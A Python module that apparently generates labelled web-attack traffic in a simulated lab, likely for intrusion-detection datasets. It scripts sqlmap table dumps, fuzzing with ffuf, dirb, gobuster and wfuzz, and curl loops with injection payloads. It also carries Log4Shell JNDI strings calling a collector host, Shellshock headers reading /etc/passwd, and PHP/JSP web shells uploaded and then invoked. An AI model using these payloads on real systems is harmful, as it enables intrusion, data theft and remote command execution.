"""Attacks on the web application and on what else a web server may hold."""

import urllib.parse
from shlex import quote

from attacks import words
from attacks.aim import aim, has_ipv6
from attacks.attack import SCRATCH, Campaign, attack
from attacks.payloads import COMMANDS, HEADERS, INCLUSIONS, SCRIPTS, STATEMENTS, TEMPLATES, TRAVERSALS
from attacks.steps import program, script, script_text, tool

_ACTORS = ("outsider", "insider", "compromised", "swarm")


class _Site:
    """The web server as an attacker of it sees it; TLS in a third of the draws."""

    def __init__(self, chance, world, first=False, ipv6=False, actors=_ACTORS, tls=None):
        self.aim = aim(chance, world, ("web",), actors, ipv6=ipv6, first=first)
        self.tls = chance.random() < 0.33 if tls is None else tls
        self.url = f"{'https' if self.tls else 'http'}://{self.aim.url_host}"

    def campaign(self, steps, files=None, least=60, subtype=""):
        rule = self.aim.rule(443 if self.tls else 80, "tcp", subtype=subtype)
        return Campaign(tuple(steps), (rule,), (self.aim.source,), (self.aim.seen,), files or {}, least)


def _requests(chance, site, requests, least=60, subtype=""):
    """A loop of curl; `requests` are its words after the common ones."""
    longest = chance.choice((0.1, 0.5, 1))
    curl = f"curl -k -g -s -o /dev/null -m 5 --interface {site.aim.source}"
    fixed = words.agent(chance) if chance.random() < 0.6 else None
    text = [
        f"{curl} -A {quote(fixed or words.agent(chance))} {request}; sleep {round(chance.uniform(0, longest), 2)}"
        for request in requests
    ]
    step = script(site.aim.actor, "requests.sh", seconds=57, good=(0, 28, None))
    return site.campaign([step], {"requests.sh": script_text(*text)}, least, subtype)


def _encoded(chance, text):
    """As a browser writes it, or twice, or with every letter as a number."""
    how = chance.random()
    if how < 0.6:
        return urllib.parse.quote(text)
    if how < 0.8:
        return urllib.parse.quote(urllib.parse.quote(text))
    return "".join(f"%{byte:02x}" for byte in text.encode())


def _drawn(chance, payloads, least=12, most=40):
    count = chance.randint(least, most)
    return [chance.choice(payloads) for _ in range(count)]


@attack("web-attack", "WebAttack", "sqlmap", "sql-injection")
def sqlmap_dump(chance, world):
    """Finds the hole in a page's parameter and reads a table through it."""
    site = _Site(chance, world, first=True, actors=("outsider", "insider", "compromised"))
    page = f"/app/item?id={chance.randint(1, 300)}"
    command = ["sqlmap", "--batch", "--disable-coloring", "-u", site.url + page, "--output-dir", f"{SCRATCH}/out"]
    command += ["--flush-session", "--dump", "-T", "users", "--dbms", "sqlite", "--threads", chance.randint(1, 4)]
    command += ["--technique", chance.choice(("U", "U", "EU", "BU"))]
    if chance.random() < 0.4:
        command += ["--tamper", chance.choice(("space2comment", "randomcase", "between"))]
    if chance.random() < 0.5:
        command.append("--random-agent")
    step = tool(site.aim.actor, *command, seconds=57, good=(0, None))
    return site.campaign([step], least=200)


@attack("web-attack", "WebAttack", "sqlmap", "sql-injection")
def sqlmap_probe(chance, world):
    """Looks for holes only, also where there are none, slowly if so drawn."""
    site = _Site(chance, world, first=True, actors=("outsider", "insider"))
    command = ["sqlmap", "--batch", "--disable-coloring", "-u", site.url + "/app/login", "--data", "user=a&pass=b"]
    command += ["--output-dir", f"{SCRATCH}/out", "--flush-session", "--level", chance.randint(1, 2)]
    command += ["--delay", round(chance.uniform(0, 0.4), 2)]
    return site.campaign([tool(site.aim.actor, *command, seconds=50, good=(0, None))], least=100)


@attack("web-attack", "WebAttack", "curl", "sql-injection")
def sql_statements(chance, world):
    site = _Site(chance, world)
    pages = ("/app/item?id=", "/app/search?q=")
    payloads = _drawn(chance, STATEMENTS)
    return _requests(chance, site, [quote(site.url + chance.choice(pages) + _encoded(chance, one)) for one in payloads])


@attack("web-attack", "WebAttack", "curl", "xss")
def scripts_in_comments(chance, world):
    site = _Site(chance, world)
    requests = []
    for payload in _drawn(chance, SCRIPTS):
        if chance.random() < 0.5:
            requests.append(f"--data-urlencode {quote('text=' + payload)} {site.url}/app/comment")
        else:
            page = chance.choice(("/app/search?q=", "/app/comment?text="))
            requests.append(quote(site.url + page + _encoded(chance, payload)))
    return _requests(chance, site, requests)


@attack("web-attack", "WebAttack", "curl", "traversal")
def traversal(chance, world):
    site = _Site(chance, world)
    pages = ("/app/file?name=", "/app/file?name=", "/", "/files/")
    requests = [
        f"--path-as-is {quote(site.url + chance.choice(pages) + chance.choice((one, _encoded(chance, one))))}"
        for one in _drawn(chance, TRAVERSALS)
    ]
    return _requests(chance, site, requests)


@attack("web-attack", "WebAttack", "curl", "command-injection")
def commands(chance, world):
    site = _Site(chance, world)
    pages = ("/app/search?q=", "/app/file?name=", "/cgi-bin/test?x=", "/app/item?id=1", "/ping?host=127.0.0.1")
    payloads = _drawn(chance, COMMANDS + TEMPLATES + INCLUSIONS)
    return _requests(chance, site, [quote(site.url + chance.choice(pages) + _encoded(chance, one)) for one in payloads])


@attack("web-attack", "WebAttack", "curl", "log4shell")
def log4shell(chance, world):
    """In the headers that servers like to write down."""
    site = _Site(chance, world)
    collector = world["collector"].v4[2]
    requests = []
    for header, payload in zip(_drawn(chance, HEADERS, 20, 40), _log_payloads(chance, collector)):
        page = chance.choice(("/", "/app/login", "/app/search?q=x", "/index.html"))
        requests.append(f"-H {quote(f'{header}: {payload}')} {quote(site.url + page)}")
    return _requests(chance, site, requests)


def _log_payloads(chance, collector):
    forms = (
        "${{jndi:ldap://{}:1389/{}}}",
        "${{jndi:rmi://{}:1099/{}}}",
        "${{${{lower:j}}ndi:${{lower:l}}dap://{}:1389/{}}}",
        "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{}/{}}}",
        "${{jndi:dns://{}/{}}}",
    )
    while True:
        yield chance.choice(forms).format(collector, f"{chance.getrandbits(32):08x}")


@attack("web-attack", "WebAttack", "curl", "shellshock")
def header_injection(chance, world):
    site = _Site(chance, world)
    payloads = ("() { :; }; /bin/cat /etc/passwd", "() { :;}; /usr/bin/id", "() { _; } >_[$($())] { id; }")
    pages = ("/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-sys/entropysearch.cgi", "/cgi-bin/bash", "/")
    requests = [
        f"-H {quote(f'{chance.choice(HEADERS)}: {one}')} {quote(site.url + chance.choice(pages))}"
        for one in _drawn(chance, payloads)
    ]
    return _requests(chance, site, requests)


@attack("web-attack", "WebAttack", "curl", "upload")
def web_shell_upload(chance, world):
    """Puts a small program where uploads go, and calls it."""
    site = _Site(chance, world)
    requests = []
    for _ in range(chance.randint(8, 16)):
        name = f"{chance.choice(('shell', 'cmd', 'x', 'img'))}{chance.randrange(1000)}.{chance.choice(('php', 'jsp', 'phtml', 'php.jpg'))}"
        body = chance.choice(
            ("<?php system($_GET['c']); ?>", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>')
        )
        requests.append(f"-X PUT --data-binary {quote(body)} {site.url}/app/upload/{name}")
        requests.append(quote(f"{site.url}/upload/{name}?c={chance.choice(('id', 'whoami', 'uname%20-a'))}"))
    return _requests(chance, site, requests)


@attack("web-attack", "WebAttack", "curl", "sql-injection-ipv6", fits=has_ipv6)
def mixed_requests_ipv6(chance, world):
    site = _Site(chance, world, ipv6=True, actors=("outsider", "insider", "swarm"))
    payloads = _drawn(chance, STATEMENTS + SCRIPTS)
    pages = ("/app/item?id=", "/app/search?q=", "/app/comment?text=")
    return _requests(chance, site, [quote(site.url + chance.choice(pages) + _encoded(chance, one)) for one in payloads])


@attack("web-attack", "WebAttack", "curl", "mixed-slow", seconds=2400, slow=True)
def slow_probing(chance, world):
    """A request in several seconds, of every kind."""
    site = _Site(chance, world)
    payloads = _drawn(chance, STATEMENTS + SCRIPTS + TRAVERSALS + COMMANDS, 40, 100)
    pages = ("/app/item?id=", "/app/search?q=", "/app/file?name=", "/app/comment?text=")
    curl = f"curl -k -g -s -o /dev/null -m 5 --interface {site.aim.source} -A {quote(words.agent(chance))}"
    text = [
        f"{curl} {quote(site.url + chance.choice(pages) + _encoded(chance, one))}; sleep {chance.randint(3, 18)}"
        for one in payloads
    ]
    step = script(site.aim.actor, "requests.sh", seconds=2390, good=(0, 28, None))
    return site.campaign([step], {"requests.sh": script_text(*text)})


@attack("web-attack", "WebAttack", "dirb", "directories")
def dirb_guessing(chance, world):
    site = _Site(chance, world, first=True)
    pause = chance.randint(10, 100)
    count = min(chance.randint(100, 500), 35_000 // (pause + 30))
    command = ["dirb", f"{site.url}/{chance.choice(('', 'app/'))}", f"{SCRATCH}/list", "-w", "-S", "-r", "-z", pause]
    command += ["-a", words.agent(chance)] if chance.random() < 0.6 else []
    step = tool(site.aim.actor, *command, seconds=56, good=(0, None))
    return site.campaign([step], {"list": words.lines(words.paths(chance, count))}, 200)


@attack("web-attack", "WebAttack", "ffuf", "directories")
def ffuf_guessing(chance, world):
    site = _Site(chance, world, first=True)
    count = chance.randint(100, 900)
    threads = chance.randint(2, 12)
    command = ["ffuf", "-s", "-k", "-u", f"{site.url}/{chance.choice(('', 'app/'))}FUZZ", "-w", f"{SCRATCH}/list"]
    command += ["-p", _between(chance, threads * 35 / count), "-t", threads, "-mc", "200,301,302,403"]
    command += ["-H", f"User-Agent: {words.agent(chance)}"] if chance.random() < 0.6 else []
    step = tool(site.aim.actor, *command, seconds=56, good=(0, None))
    return site.campaign([step], {"list": words.lines(words.paths(chance, count))}, 200)


def _between(chance, most):
    """ffuf's pause of each of its threads."""
    longest = round(min(2, most) * chance.uniform(0.5, 1), 2)
    return f"{round(longest / 3, 2)}-{longest}"


@attack("web-attack", "WebAttack", "ffuf", "parameters")
def ffuf_parameters(chance, world):
    """Tries payloads in a parameter, fast."""
    site = _Site(chance, world, first=True)
    payloads = [urllib.parse.quote(one) for one in chance.sample(STATEMENTS + SCRIPTS + TRAVERSALS + COMMANDS, 60)]
    page = chance.choice(("app/search?q=FUZZ", "app/item?id=FUZZ", "app/file?name=FUZZ"))
    threads = chance.randint(1, 6)
    command = ["ffuf", "-s", "-k", "-u", f"{site.url}/{page}", "-w", f"{SCRATCH}/list", "-t", threads]
    command += ["-p", _between(chance, threads * 35 / 60)]
    step = tool(site.aim.actor, *command, seconds=56, good=(0, None))
    return site.campaign([step], {"list": words.lines(payloads)}, 150)


@attack("web-attack", "WebAttack", "nmap", "scripts")
def nmap_web_scripts(chance, world):
    """What a scanner's scripts ask a web server."""
    site = _Site(chance, world, first=True, actors=("outsider", "insider", "compromised"))
    scripts = chance.sample(
        ("http-enum", "http-headers", "http-methods", "http-sql-injection", "http-git", "http-backup-finder"), 4
    )
    scripts += chance.sample(("http-config-backup", "http-shellshock", "http-phpself-xss", "http-stored-xss"), 2)
    command = ("nmap", "-n", "-Pn", "-p", 443 if site.tls else 80, "--script", ",".join(scripts), "--max-rate", 150)
    command += ("--script-timeout", "35s", "--host-timeout", "50s", site.aim.at)
    return site.campaign([tool(site.aim.actor, *command, seconds=56, good=(0, None))], least=100)


@attack("web-attack", "WebAttack", "gobuster", "directories")
def gobuster_guessing(chance, world):
    site = _Site(chance, world, first=True)
    count = chance.randint(100, 700)
    threads = chance.randint(1, 5)
    pause = min(150, chance.randint(15, 30) * 1000 * threads // count)
    command = ["gobuster", "dir", "-q", "-k", "--no-error", "-u", site.url, "-w", f"{SCRATCH}/list", "-t", threads]
    command += ["--delay", f"{pause}ms", "-a", words.agent(chance)]
    step = tool(site.aim.actor, *command, seconds=56, good=(0, None))
    return site.campaign([step], {"list": words.lines(words.paths(chance, count))}, 200)


@attack("web-attack", "WebAttack", "wfuzz", "parameters")
def wfuzz_parameters(chance, world):
    # It looks its own host's name up, which inside is a question to the resolver and no part of the attack.
    site = _Site(chance, world, first=True, actors=("outsider", "compromised", "swarm"))
    payloads = chance.sample(STATEMENTS + SCRIPTS + TRAVERSALS + COMMANDS, 70)
    page = chance.choice(("app/search?q=FUZZ", "app/item?id=FUZZ", "app/file?name=FUZZ", "FUZZ"))
    command = [
        "wfuzz",
        "-c",
        "-t",
        chance.randint(1, 4),
        "-s",
        round(chance.uniform(0.05, 0.6), 2),
        "-w",
        f"{SCRATCH}/list",
    ]
    step = tool(site.aim.actor, *command, f"{site.url}/{page}", seconds=56, good=(0, None))
    return site.campaign([step], {"list": words.lines(payloads)}, 150)


@attack("web-attack", "WebAttack", "web-probe", "mixed")
def own_probe(chance, world):
    """All kinds in one, on connections that live long, with headers like a browser's."""
    site = _Site(chance, world)
    payloads = chance.sample(STATEMENTS + SCRIPTS + TRAVERSALS + COMMANDS + TEMPLATES, 60)
    command = ("--url", site.url, "--source", site.aim.source, "--payloads", f"{SCRATCH}/list", "--seconds", 45)
    command += ("--rate", round(chance.uniform(1.5, 12), 1), "--seed", chance.randrange(1 << 30))
    step = program(site.aim.actor, "web_probe", *command, seconds=56)
    return site.campaign([step], {"list": words.lines(payloads)}, 100)
